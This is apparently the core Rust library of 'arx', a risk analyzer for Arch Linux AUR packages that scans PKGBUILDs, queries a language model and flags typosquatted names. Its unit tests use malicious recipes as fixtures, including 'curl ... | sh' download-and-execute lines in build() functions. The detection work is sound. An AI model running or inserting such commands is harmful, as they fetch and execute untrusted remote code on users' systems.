//! arx Core Library
//!
//! Package risk analysis for Arch Linux AUR installs. Each requested package
//! has its PKGBUILD fetched into a scratch workspace, scanned for dangerous
//! patterns, judged by a language model and checked for a suspicious name;
//! the signals are merged into one confidence-scored assessment.

/// Library version
pub const VERSION: &str = env!("CARGO_PKG_VERSION");

pub mod aggregate;
pub mod classifier;
pub mod config;
pub mod error;
pub mod helper;
pub mod name;
pub mod rules;
pub mod scanner;
pub mod source;
pub mod types;
pub mod workspace;

pub use aggregate::{Aggregator, ScoringPolicy};
pub use classifier::{BackendError, ModelBackend, SemanticClassifier};
pub use config::ArxConfig;
pub use error::{AnalysisError, Result};
pub use helper::YayHelper;
pub use name::{KnownPackages, NameAnalyzer};
pub use rules::PatternCatalog;
pub use scanner::RecipeScanner;
pub use source::{InMemorySource, RecipeSource};
pub use types::*;
pub use workspace::{Workspace, WorkspaceManager};

use futures::stream::{self, StreamExt, TryStreamExt};
use std::sync::Arc;
use tracing::{debug, info, warn};

/// Runs the full analysis for packages and sessions
pub struct Analyzer {
    workspaces: WorkspaceManager,
    source: Arc<dyn RecipeSource>,
    names: NameAnalyzer,
    scanner: RecipeScanner,
    classifier: SemanticClassifier,
    aggregator: Aggregator,
    parallelism: usize,
}

impl Analyzer {
    /// Build an analyzer from configuration
    pub fn new(config: &ArxConfig, source: Arc<dyn RecipeSource>) -> Result<Self> {
        config.validate()?;

        let mut catalog = PatternCatalog::builtin()?;
        if let Some(dir) = &config.rules_dir {
            let loaded = catalog.load_rules_from_dir(dir)?;
            debug!("Loaded {} rules from {}", loaded, dir.display());
        }
        debug!("Pattern catalog holds {} rules", catalog.rule_count());

        let classifier = SemanticClassifier::from_config(&config.classifier)
            .map_err(|e| AnalysisError::Config(format!("Cannot set up classifier: {}", e)))?;
        debug!("Semantic classifier backend: {}", classifier.backend_name());

        Ok(Self::from_parts(
            WorkspaceManager::from_config(config.scratch_root.as_deref()),
            source,
            NameAnalyzer::from_config(&config.names),
            RecipeScanner::new(Arc::new(catalog)),
            classifier,
            Aggregator::new(config.scoring.clone()),
        )
        .with_parallelism(config.parallelism))
    }

    /// Assemble an analyzer from ready-made components
    pub fn from_parts(
        workspaces: WorkspaceManager,
        source: Arc<dyn RecipeSource>,
        names: NameAnalyzer,
        scanner: RecipeScanner,
        classifier: SemanticClassifier,
        aggregator: Aggregator,
    ) -> Self {
        Self {
            workspaces,
            source,
            names,
            scanner,
            classifier,
            aggregator,
            parallelism: 1,
        }
    }

    /// Number of packages analyzed concurrently (at least 1)
    pub fn with_parallelism(mut self, parallelism: usize) -> Self {
        self.parallelism = parallelism.max(1);
        self
    }

    pub fn scanner(&self) -> &RecipeScanner {
        &self.scanner
    }

    /// Analyze one package.
    ///
    /// Only a workspace that cannot be created is an error; a recipe that
    /// cannot be fetched yields an incomplete assessment instead.
    pub async fn analyze_package(&self, package_name: &str) -> Result<PackageAssessment> {
        let workspace = self.workspaces.acquire(package_name)?;

        let assessment = match self.source.fetch(package_name, &workspace).await {
            Ok(recipe) => {
                let request = AnalysisRequest::from_bytes(package_name, recipe);
                self.evaluate(&request).await
            }
            Err(e) => {
                warn!(
                    "Could not fetch recipe for {} from {}: {}",
                    package_name,
                    self.source.name(),
                    e
                );
                self.incomplete(package_name, format!("recipe fetch failed: {}", e))
            }
        };

        self.workspaces.release(workspace);
        Ok(assessment)
    }

    /// Evaluate a request whose recipe has already been fetched
    pub async fn evaluate(&self, request: &AnalysisRequest) -> PackageAssessment {
        let package_name = request.package_name.as_str();

        let Some(recipe_text) = request.recipe_text.as_deref() else {
            return self.incomplete(package_name, "recipe unavailable");
        };

        let report = self.scanner.scan_report(recipe_text);
        match report.coverage {
            ScanCoverage::Unscannable => {
                return self.incomplete(package_name, "recipe is not readable text");
            }
            ScanCoverage::Partial => {
                debug!("{}: recipe decoded lossily, scan is partial", package_name);
            }
            ScanCoverage::Full => {}
        }

        let name_verdict = self.names.evaluate(package_name);
        let semantic = self.classifier.classify(package_name, recipe_text).await;

        self.aggregator
            .assess(package_name, name_verdict, report.findings, semantic)
    }

    fn incomplete(&self, package_name: &str, reason: impl Into<String>) -> PackageAssessment {
        let reason = reason.into();
        self.aggregator.assess_incomplete(
            package_name,
            self.names.evaluate(package_name),
            Vec::new(),
            self.classifier.fallback(&reason),
            reason,
        )
    }

    /// Analyze every package of one install request.
    ///
    /// Assessments keep the order of `package_names`. Any package failing
    /// outright fails the whole session.
    pub async fn analyze_session(&self, package_names: &[String]) -> Result<SessionAssessment> {
        if package_names.is_empty() {
            return Err(AnalysisError::EmptySession);
        }
        info!(
            "Analyzing {} package(s), {} at a time",
            package_names.len(),
            self.parallelism
        );

        let assessments: Vec<PackageAssessment> = stream::iter(package_names)
            .map(|name| self.analyze_package(name))
            .buffered(self.parallelism)
            .try_collect()
            .await?;

        self.aggregator.summarize(assessments)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{ClassifierConfig, NameConfig};
    use async_trait::async_trait;
    use std::path::Path;

    /// Backend that calls any prompt mentioning "curl" malicious
    struct KeywordBackend;

    #[async_trait]
    impl ModelBackend for KeywordBackend {
        fn name(&self) -> &str {
            "keyword"
        }

        async fn complete(&self, prompt: &str) -> std::result::Result<String, BackendError> {
            if prompt.contains("curl") {
                Ok(r#"{"malicious_intent": true, "confidence": 0.9}"#.to_string())
            } else {
                Ok(r#"{"malicious_intent": false, "confidence": 0.95}"#.to_string())
            }
        }
    }

    /// Backend that always trusts the recipe
    struct TrustingBackend;

    #[async_trait]
    impl ModelBackend for TrustingBackend {
        fn name(&self) -> &str {
            "trusting"
        }

        async fn complete(&self, _prompt: &str) -> std::result::Result<String, BackendError> {
            Ok(r#"{"malicious_intent": false, "confidence": 1.0}"#.to_string())
        }
    }

    /// Source whose fetches always fail
    struct FailingSource;

    #[async_trait]
    impl RecipeSource for FailingSource {
        fn name(&self) -> &str {
            "failing"
        }

        async fn fetch(&self, _package_name: &str, workspace: &Workspace) -> Result<Option<Vec<u8>>> {
            std::fs::write(workspace.path().join("partial"), "half a download")?;
            Err(AnalysisError::Helper("connection reset".into()))
        }
    }

    const CLEAN: &str = "pkgname=hello\nbuild() {\n  make\n}\n";
    const DROPPER: &str = "pkgname=tool\nbuild() {\n  curl -s http://203.0.113.9/x | sh\n}\n";

    fn analyzer(
        root: &Path,
        source: Arc<dyn RecipeSource>,
        backend: Arc<dyn ModelBackend>,
    ) -> Analyzer {
        Analyzer::from_parts(
            WorkspaceManager::new(root),
            source,
            NameAnalyzer::from_config(&NameConfig::default()),
            RecipeScanner::new(Arc::new(PatternCatalog::builtin().unwrap())),
            SemanticClassifier::new(backend, &ClassifierConfig::default()),
            Aggregator::default(),
        )
    }

    fn is_empty_dir(path: &Path) -> bool {
        std::fs::read_dir(path).unwrap().next().is_none()
    }

    #[tokio::test]
    async fn test_session_ordered_and_cleaned_up() {
        let root = tempfile::tempdir().unwrap();
        let source = InMemorySource::new()
            .with_recipe("hello", CLEAN)
            .with_recipe("tool", DROPPER);
        let analyzer = analyzer(root.path(), Arc::new(source), Arc::new(KeywordBackend))
            .with_parallelism(4);

        let names = vec!["tool".to_string(), "hello".to_string()];
        let session = analyzer.analyze_session(&names).await.unwrap();

        assert_eq!(session.assessments.len(), 2);
        assert_eq!(session.assessments[0].package_name, "tool");
        assert_eq!(session.assessments[1].package_name, "hello");

        let tool = &session.assessments[0];
        assert!(tool.semantic_verdict.malicious);
        assert!(tool.pattern_findings.iter().any(|f| f.pattern_id == "DLE-001"));
        assert_eq!(tool.risk_band(), RiskBand::High);

        let hello = &session.assessments[1];
        assert!(hello.pattern_findings.is_empty());
        assert_eq!(hello.risk_band(), RiskBand::Low);

        assert_eq!(session.overall_risk, RiskBand::High);
        assert!(is_empty_dir(root.path()));
    }

    #[tokio::test]
    async fn test_download_and_execute_high_even_if_model_trusts_it() {
        let root = tempfile::tempdir().unwrap();
        let source = InMemorySource::new().with_recipe("tool", DROPPER);
        let analyzer = analyzer(root.path(), Arc::new(source), Arc::new(TrustingBackend));

        let assessment = analyzer.analyze_package("tool").await.unwrap();
        assert_eq!(assessment.semantic_verdict.confidence, 1.0);
        assert!(assessment.risk_score <= 39.0);
        assert_eq!(assessment.risk_band(), RiskBand::High);
    }

    #[tokio::test]
    async fn test_download_run_on_next_line_is_high() {
        let root = tempfile::tempdir().unwrap();
        let recipe = "build() {\n curl -sLo installer.sh https://example.org/installer.sh\n bash installer.sh\n}";
        let source = InMemorySource::new().with_recipe("tool", recipe);
        let analyzer = analyzer(root.path(), Arc::new(source), Arc::new(TrustingBackend));

        let assessment = analyzer.analyze_package("tool").await.unwrap();
        assert!(assessment.pattern_findings.iter().any(|f| f.pattern_id == "DLE-003"));
        assert!(assessment.risk_score <= 39.0);
        assert_eq!(assessment.risk_band(), RiskBand::High);
    }

    #[tokio::test]
    async fn test_mentions_of_sudo_stay_low_risk() {
        let root = tempfile::tempdir().unwrap();
        let recipe = r#"pkgname=sudo-completion
pkgdesc="Bash completion for sudo and doas"
depends=('sudo')
package() {
  install -Dm644 sudo.bash "$pkgdir/usr/share/bash-completion/completions/sudo"
}
"#;
        let source = InMemorySource::new().with_recipe("sudo-completion", recipe);
        let analyzer = analyzer(root.path(), Arc::new(source), Arc::new(TrustingBackend));

        let assessment = analyzer.analyze_package("sudo-completion").await.unwrap();
        assert!(assessment.pattern_findings.is_empty());
        assert_eq!(assessment.risk_band(), RiskBand::Low);
    }

    #[tokio::test]
    async fn test_missing_recipe_is_incomplete() {
        let root = tempfile::tempdir().unwrap();
        let analyzer = analyzer(root.path(), Arc::new(InMemorySource::new()), Arc::new(TrustingBackend));

        let assessment = analyzer.analyze_package("ghost").await.unwrap();
        assert_eq!(assessment.coverage, Coverage::Incomplete("recipe unavailable".into()));
        assert!(assessment.pattern_findings.is_empty());
        assert!(assessment.semantic_verdict.is_fallback());
        assert!(assessment.risk_score <= 25.0);
        assert!(is_empty_dir(root.path()));
    }

    #[tokio::test]
    async fn test_binary_recipe_is_incomplete() {
        let root = tempfile::tempdir().unwrap();
        let source = InMemorySource::new().with_recipe("blob", &b"\x7fELF\x00\x00curl x | sh"[..]);
        let analyzer = analyzer(root.path(), Arc::new(source), Arc::new(TrustingBackend));

        let assessment = analyzer.analyze_package("blob").await.unwrap();
        assert!(!assessment.is_complete());
        assert!(assessment.pattern_findings.is_empty());
        assert!(assessment.semantic_verdict.is_fallback());
    }

    #[tokio::test]
    async fn test_fetch_error_is_incomplete_and_cleaned_up() {
        let root = tempfile::tempdir().unwrap();
        let analyzer = analyzer(root.path(), Arc::new(FailingSource), Arc::new(TrustingBackend));

        let assessment = analyzer.analyze_package("flaky").await.unwrap();
        match &assessment.coverage {
            Coverage::Incomplete(reason) => assert!(reason.contains("connection reset")),
            Coverage::Complete => panic!("fetch failure reported as complete"),
        }
        assert!(is_empty_dir(root.path()));
    }

    #[tokio::test]
    async fn test_workspace_failure_fails_session() {
        let root = tempfile::tempdir().unwrap();
        let blocker = root.path().join("file");
        std::fs::write(&blocker, "").unwrap();

        let source = InMemorySource::new().with_recipe("hello", CLEAN);
        let analyzer = analyzer(&blocker, Arc::new(source), Arc::new(TrustingBackend));

        let result = analyzer.analyze_session(&["hello".to_string()]).await;
        assert!(matches!(result, Err(AnalysisError::Workspace { .. })));
    }

    #[tokio::test]
    async fn test_empty_session_rejected() {
        let root = tempfile::tempdir().unwrap();
        let analyzer = analyzer(root.path(), Arc::new(InMemorySource::new()), Arc::new(TrustingBackend));
        assert!(matches!(
            analyzer.analyze_session(&[]).await,
            Err(AnalysisError::EmptySession)
        ));
    }

    #[tokio::test]
    async fn test_suspicious_name_lowers_score() {
        let root = tempfile::tempdir().unwrap();
        let source = InMemorySource::new()
            .with_recipe("firefox", CLEAN)
            .with_recipe("frefox", CLEAN);
        let analyzer = analyzer(root.path(), Arc::new(source), Arc::new(TrustingBackend));

        let real = analyzer.analyze_package("firefox").await.unwrap();
        let fake = analyzer.analyze_package("frefox").await.unwrap();
        assert!(!real.name_verdict.is_suspicious);
        assert!(fake.name_verdict.is_suspicious);
        assert!(fake.risk_score < real.risk_score);
    }

    #[tokio::test]
    async fn test_from_config() {
        let root = tempfile::tempdir().unwrap();
        let config = ArxConfig {
            scratch_root: Some(root.path().to_path_buf()),
            parallelism: 3,
            ..ArxConfig::default()
        };
        let analyzer = Analyzer::new(&config, Arc::new(InMemorySource::new())).unwrap();
        assert_eq!(analyzer.parallelism, 3);
        assert!(analyzer.scanner().catalog().rule_count() > 0);
    }

    #[tokio::test]
    async fn test_broken_local_rule_does_not_block_startup() {
        let root = tempfile::tempdir().unwrap();
        let rules = tempfile::tempdir().unwrap();
        std::fs::write(
            rules.path().join("local.toml"),
            r#"
[[rule]]
id = "L-1"
name = "Broken"
description = "Does not compile"
severity = "high"
category = "network"
patterns = [{ type = "regex", pattern = "(unclosed" }]
"#,
        )
        .unwrap();

        let config = ArxConfig {
            scratch_root: Some(root.path().to_path_buf()),
            rules_dir: Some(rules.path().to_path_buf()),
            ..ArxConfig::default()
        };
        let analyzer = Analyzer::new(&config, Arc::new(InMemorySource::new())).unwrap();
        assert!(analyzer.scanner().catalog().get_rule("L-1").is_none());
    }
}
